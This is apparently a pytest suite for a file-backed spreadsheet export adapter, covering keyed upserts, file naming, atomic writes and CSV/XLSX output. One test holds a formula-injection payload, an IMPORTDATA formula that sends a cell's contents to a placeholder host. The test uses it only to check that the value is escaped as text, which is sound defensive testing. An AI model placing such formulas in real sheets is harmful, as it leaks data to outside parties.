"""Without an account sheets are files: whole or as they were, by key, texts as texts."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from core.outside import google_account, sheet_format
from tests.running import Workers, until
from tests.workers.work_orders.orders import Orders
from workers.work_orders.adapter import sheets
from workers.work_orders.adapter.sheets.files import FileSheet
from workers.work_orders.adapter.sheets.port import SheetFailed, Unwritable

HEADER = ("Id", "Text", "Number")


@pytest.fixture(params=["xlsx", "csv"])
def sheet(request: pytest.FixtureRequest, tmp_path: Path) -> FileSheet:
    return FileSheet(tmp_path, "sheet/1", request.param, "Work orders")


async def test_rows_are_put_where_their_key_stands_and_a_repeat_changes_nothing(sheet: FileSheet) -> None:
    await sheet.upsert(HEADER, {"a": ["one", 1], "b": ["two", 2.5]})
    await sheet.upsert(HEADER, {"b": ["changed", 3], "c": ["three", 4]})
    before = {key: [str(cell) for cell in row] for key, row in (await sheet.rows()).items()}
    await sheet.upsert(HEADER, {"b": ["changed", 3], "c": ["three", 4]})
    assert {key: [str(cell) for cell in row] for key, row in (await sheet.rows()).items()} == before
    assert list(before) == ["a", "b", "c"]
    assert [row[0] for row in before.values()] == ["one", "changed", "three"]


@pytest.mark.parametrize("order", [(1, 2, 0), (2, 0, 1), (1, 2)])
async def test_a_file_sorted_with_its_header_or_without_one_loses_no_row(tmp_path: Path, order: list[int]) -> None:
    sheet, table = FileSheet(tmp_path, "s", "csv", "Work orders"), ["Id,Text,Number", "a,one,1", "b,two,2"]
    sheet.path.parent.mkdir()
    sheet.path.write_text("\n".join(table[at] for at in order))
    assert list(await sheet.rows()) == [table[at][0] for at in order if at]
    for _ in range(2):
        await sheet.upsert(HEADER, {"b": ["changed", 3], "c": ["three", 4]})
    first, *rest = sheet.path.read_text("utf-8-sig").splitlines()
    assert (first, sorted(rest)) == (table[0], ["a,one,1", "b,changed,3", "c,three,4"])


def test_a_plain_id_names_its_file_and_no_two_ids_share_one(tmp_path: Path) -> None:
    ids = ["1AbC-d_9", "sheet 1", "sheet_1", "sheet/1", ".sheet_1", "", ".", "é", "a" * 100, "a" * 101, "a" * 102]
    files = {each: FileSheet(tmp_path, each, "csv", "Work orders").path for each in ids}
    assert files["1AbC-d_9"].name == "1AbC-d_9.csv"
    assert len(set(files.values())) == len(ids)
    assert {file.parent for file in files.values()} == {tmp_path / "work-orders"}


async def test_no_text_becomes_a_formula_and_it_reads_back_as_it_was(sheet: FileSheet) -> None:
    evil = '=IMPORTDATA("http://x.example/"&B2)'
    for _ in range(2):
        await sheet.upsert(HEADER, {"a": [evil, -5]})
    await sheet.upsert(HEADER, {"b": ["other", 1]})
    assert (await sheet.rows())["a"][0] == evil
    if sheet.path.suffix == ".csv":
        with sheet.path.open(encoding="utf-8-sig", newline="") as stream:
            written = str(list(csv.reader(stream))[1][1])
    else:
        written = str(CalamineWorkbook.from_path(str(sheet.path)).get_sheet_by_index(0).to_python()[1][1])
    assert written == "'" + evil


async def test_a_file_that_cannot_be_replaced_stays(sheet: FileSheet, monkeypatch: pytest.MonkeyPatch) -> None:
    await sheet.upsert(HEADER, {"a": ["one", 1]})
    before = sheet.path.read_bytes()

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(SheetFailed, match="No space left"):
        await sheet.upsert(HEADER, {"a": ["two", 2]})
    assert sheet.path.read_bytes() == before
    assert [each.name for each in sheet.path.parent.iterdir()] == [sheet.path.name]


async def test_a_workbook_that_is_none_any_more_says_what_to_do(tmp_path: Path) -> None:
    sheet = FileSheet(tmp_path, "s", "xlsx", "Work orders")
    sheet.path.parent.mkdir()
    sheet.path.write_text("not a workbook")
    with pytest.raises(Unwritable, match="move it away, then retry"):
        await sheet.upsert(HEADER, {"a": ["one", 1]})


@pytest.fixture
def no_account(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.delenv("ROWMILL_GOOGLE_CREDENTIALS", raising=False)
    google_account.cache_clear()
    sheet_format.cache_clear()
    yield
    google_account.cache_clear()


def test_an_id_that_says_file_is_another_sheet_than_the_rest_of_it(store: Path, no_account: None) -> None:
    """They are exported under keys of their own: one workbook for both would lose rows."""
    said, plain = (sheets.sheet(each, "Work orders", _at_once) for each in ("file:X", "X"))
    assert isinstance(said, FileSheet)
    assert isinstance(plain, FileSheet)
    assert (plain.path.stem, said.path.stem[:7]) == ("X", "file_X-")
    assert (said.limit, plain.limit) == ("sheet:file:X", "sheet:X")


async def _at_once(_name: str, _rate: float, _burst: float) -> float:
    return 0.0


async def test_without_an_account_everything_works_and_ends_in_a_workbook(
    orders: Orders, workers: Workers, store: Path, no_account: None
) -> None:
    made = await orders.ingest("a", work_order_number="0815", amount="12.50", description="=1+1")
    await orders.signed("s", "0815")
    await workers.start("work_orders.export")
    query = "select bool_and(status = 'DONE') from export_jobs"
    await until(lambda: orders.db.fetchval(query), what="the export")
    table = CalamineWorkbook.from_path(str(store / "work-orders" / "sheet-1.xlsx")).get_sheet_by_index(0).to_python()
    assert [row[:2] for row in table] == [["Id", "Work order"], [str(made["work_order_id"]), "0815"]]
    assert (table[1][6], table[1][11], table[1][14] != "") == ("'=1+1", 12.5, True)
